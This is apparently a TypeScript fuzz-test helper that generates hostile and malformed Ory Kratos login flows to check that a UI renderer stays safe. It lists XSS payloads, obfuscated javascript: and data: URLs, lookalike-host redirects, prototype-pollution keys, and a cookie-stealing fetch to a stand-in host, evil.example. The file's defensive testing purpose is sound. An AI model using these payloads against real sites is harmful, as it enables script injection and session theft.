import fc from 'fast-check';
import { knownNodeGroups } from '../renderer/node';

/**
 * fast-check arbitraries for hostile and malformed Kratos flows: what a compromised or buggy server, a proxy
 * rewriting JSON, or an old/new Kratos version could send. Shapes follow ../shared/kratos/NOTES.md §3 closely
 * enough to reach every renderer branch, with junk mixed in at every level.
 */

export const FUZZ_ORY_URL = 'https://ory.example.com';

/** Strings a renderer must never turn into markup, script or a navigable URL. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template injection attempt, as text
  '${alert(1)}',
  '</form><form action="javascript:alert(1)">',
  '\u202e\u0000\uffff',
  '__proto__',
  'constructor',
  'toString',
  '',
];

/** URLs for href/src/action/redirect_browser_to: the unsafe ones are listed with their obfuscations. */
export const hostileUrls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\t\njavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0000javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  ' vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/png;base64,iVBORw0KGgo=',
  ' data:text/javascript,alert(1)',
  '//evil.example/x',
  '\\\\evil.example/x',
  '/\\evil.example/x',
  'https://evil.example/webauthn.js',
  'https://ory.example.com.evil.example/webauthn.js',
  'https://ory.example.com@evil.example/webauthn.js',
  'http://ory.example.com/.well-known/ory/webauthn.js',
  `${FUZZ_ORY_URL}/.well-known/ory/webauthn.js`,
  `${FUZZ_ORY_URL}/self-service/login?flow=1`,
  '/.well-known/ory/webauthn.js',
  '/self-service/login?flow=1',
  'relative/path',
  'mailto:a@example.com',
  'file:///etc/passwd',
  '',
  '   ',
];

/** Keys that pollute prototypes when a parser or a merge is careless. */
export const dangerousKeys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
];

const nodeTypes = ['input', 'text', 'img', 'a', 'script', 'div'];

const shortString = fc.string({ maxLength: 12 });
const text = fc.oneof(
  { arbitrary: fc.constantFrom(...hostileTexts), weight: 3 },
  { arbitrary: shortString, weight: 2 },
  { arbitrary: fc.string({ unit: 'grapheme', maxLength: 8 }), weight: 1 },
);
const url = fc.oneof(
  { arbitrary: fc.constantFrom(...hostileUrls), weight: 4 },
  { arbitrary: shortString, weight: 1 },
);
const key = fc.oneof(
  { arbitrary: fc.constantFrom(...dangerousKeys), weight: 2 },
  {
    arbitrary: fc.constantFrom('secrets', 'reason', 'on-load', 'onclick', 'data-x', 'ory-node', 'State'),
    weight: 2,
  },
  { arbitrary: shortString, weight: 1 },
);

/**
 * An object as `JSON.parse` builds it: `__proto__` becomes an own property, never the prototype (which is how
 * it arrives from the wire).
 */
function ownObject(entries: [string, unknown][]): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  for (const [name, value] of entries) {
    Object.defineProperty(object, name, { value, enumerable: true, writable: true, configurable: true });
  }
  return object;
}

/** Anything where something else was expected: null, numbers, arrays, objects with dangerous keys. */
export const junk: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', maxDepth: 2 },
    fc.constant(null),
    fc.constant(undefined),
    fc.boolean(),
    fc.integer(),
    fc.constantFrom(Number.NaN, Number.POSITIVE_INFINITY, -1, 0, 1e21),
    text,
    url,
    fc.array(tie('value'), { maxLength: 3 }),
    fc.array(fc.tuple(key, tie('value')), { maxLength: 3 }).map(ownObject),
  ),
})).value;

/** `value` most of the time, junk otherwise (the field is wrongly typed or missing). */
function usually<T>(value: fc.Arbitrary<T>, weight = 4): fc.Arbitrary<unknown> {
  return fc.oneof({ arbitrary: value, weight }, { arbitrary: junk, weight: 1 });
}

/** A record whose keys are each usually present (sometimes missing), with a dangerous key mixed in now and then. */
function looseRecord(fields: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<Record<string, unknown>> {
  const present = Object.entries(fields).map(([name, value]) =>
    fc.option(
      value.map((v): [string, unknown] => [name, v]),
      { freq: 10, nil: undefined },
    ),
  );
  return fc
    .tuple(
      fc.tuple(...present),
      fc.array(fc.tuple(fc.constantFrom(...dangerousKeys), junk), { maxLength: 1 }),
    )
    .map(([known, extra]) =>
      ownObject([...known.filter((entry): entry is [string, unknown] => entry !== undefined), ...extra]),
    );
}

export const uiText = looseRecord({
  id: usually(fc.oneof(fc.integer({ min: 1_000_000, max: 5_999_999 }), fc.constantFrom(1050015, 4010001))),
  text: usually(text),
  type: usually(fc.constantFrom('info', 'error', 'success', 'warning')),
  context: usually(
    fc
      .array(
        fc.tuple(key, fc.oneof(junk, fc.array(fc.record({ id: fc.integer(), text }), { maxLength: 3 }))),
        {
          maxLength: 3,
        },
      )
      .map(ownObject),
  ),
});

const messages = usually(fc.array(usually(uiText, 6), { maxLength: 3 }));

const trigger = fc.constantFrom(
  'oryWebAuthnLogin',
  '__oryPasskeyLogin',
  'oryPasskeyLoginAutocompleteInit',
  'alert',
  'eval',
  '__proto__',
  'constructor',
);

const legacyHandler = fc.constantFrom(
  'window.oryWebAuthnLogin({"publicKey":{}})',
  'window.__oryWebAuthnLogin({})',
  'alert(1)',
  'window.location="javascript:alert(1)"',
  'window.oryWebAuthnLogin(alert(1))',
  'fetch("https://evil.example/"+document.cookie)',
);

const integrity = fc.constantFrom(
  'sha512-7bOlHfVtR4C2NmRLBvqG5bYfYIS8jGWOUFQ0ZMpvJv9ix2J0EIgh5wExw5nuCmzxY8Y6ccOvE0Y/7+sbNeJJgw==',
  'sha256-abc',
  'sha384-',
  'md5-abc',
  'garbage',
  '',
);

const attributesByType: Record<string, fc.Arbitrary<Record<string, unknown>>> = {
  input: looseRecord({
    node_type: fc.constant('input'),
    name: usually(
      fc.oneof(fc.constantFrom('identifier', 'password', 'csrf_token', 'traits.email', 'method'), text),
    ),
    type: usually(
      fc.constantFrom(
        'text',
        'password',
        'hidden',
        'submit',
        'button',
        'checkbox',
        'email',
        'number',
        'file',
        'image',
      ),
    ),
    value: junk,
    required: usually(fc.boolean()),
    disabled: usually(fc.boolean()),
    autocomplete: usually(fc.constantFrom('email', 'current-password', 'one-time-code', 'username webauthn')),
    pattern: usually(fc.constantFrom('[0-9]+', '(', '.*', '\\')),
    maxlength: usually(fc.integer({ min: -5, max: 100 })),
    label: usually(uiText),
    onclick: usually(legacyHandler),
    onclickTrigger: usually(trigger),
    onload: usually(legacyHandler),
    onloadTrigger: usually(trigger),
    options: usually(
      fc.array(usually(looseRecord({ value: junk, label: usually(uiText) })), { maxLength: 3 }),
    ),
  }),
  text: looseRecord({ node_type: fc.constant('text'), text: usually(uiText), id: usually(text) }),
  img: looseRecord({
    node_type: fc.constant('img'),
    src: usually(url),
    id: usually(text),
    width: usually(fc.integer({ min: -10, max: 300 })),
    height: usually(fc.integer({ min: -10, max: 300 })),
  }),
  a: looseRecord({
    node_type: fc.constant('a'),
    href: usually(url),
    title: usually(uiText),
    id: usually(text),
  }),
  script: looseRecord({
    node_type: fc.constant('script'),
    src: usually(url),
    integrity: usually(integrity),
    async: usually(fc.boolean()),
    crossorigin: usually(fc.constantFrom('anonymous', 'use-credentials')),
    referrerpolicy: usually(fc.constantFrom('no-referrer', 'unsafe-url')),
    type: usually(fc.constantFrom('text/javascript', 'module', 'text/html')),
    id: usually(text),
    nonce: usually(text),
  }),
  div: looseRecord({
    node_type: fc.constant('div'),
    class: usually(text),
    id: usually(text),
    data: usually(fc.array(fc.tuple(key, junk), { maxLength: 4 }).map(ownObject)),
  }),
};

function nodeOfType(type: string): fc.Arbitrary<Record<string, unknown>> {
  return looseRecord({
    type: usually(fc.constant(type), 9),
    group: usually(fc.oneof({ arbitrary: fc.constantFrom(...knownNodeGroups), weight: 5 }, text), 9),
    attributes: usually(attributesByType[type] ?? junk, 9),
    messages,
    meta: usually(looseRecord({ label: usually(uiText) })),
  });
}

/** One node: a known type with matching attributes most of the time, anything at all otherwise. */
export const uiNode: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 12, arbitrary: fc.oneof(...[...nodeTypes, 'unknown'].map(nodeOfType)) },
  { weight: 1, arbitrary: junk },
);

/** A flow with `nodeCount` nodes at most; its container and fields may be missing or wrongly typed. */
export function flowArbitrary(maxNodes = 12, minNodes = 0): fc.Arbitrary<unknown> {
  const ui = looseRecord({
    action: usually(url),
    method: usually(fc.constantFrom('POST', 'GET', 'dialog', 'post')),
    nodes: usually(fc.array(uiNode, { minLength: minNodes, maxLength: maxNodes }), 12),
    messages,
  });
  return fc.oneof(
    {
      weight: 15,
      arbitrary: looseRecord({
        id: usually(fc.uuid()),
        type: usually(fc.constantFrom('browser', 'api')),
        state: usually(fc.constantFrom('choose_method', 'sent_email', 'passed_challenge', 'success')),
        return_to: usually(url),
        ui: usually(ui, 12),
      }),
    },
    { weight: 1, arbitrary: junk },
  );
}
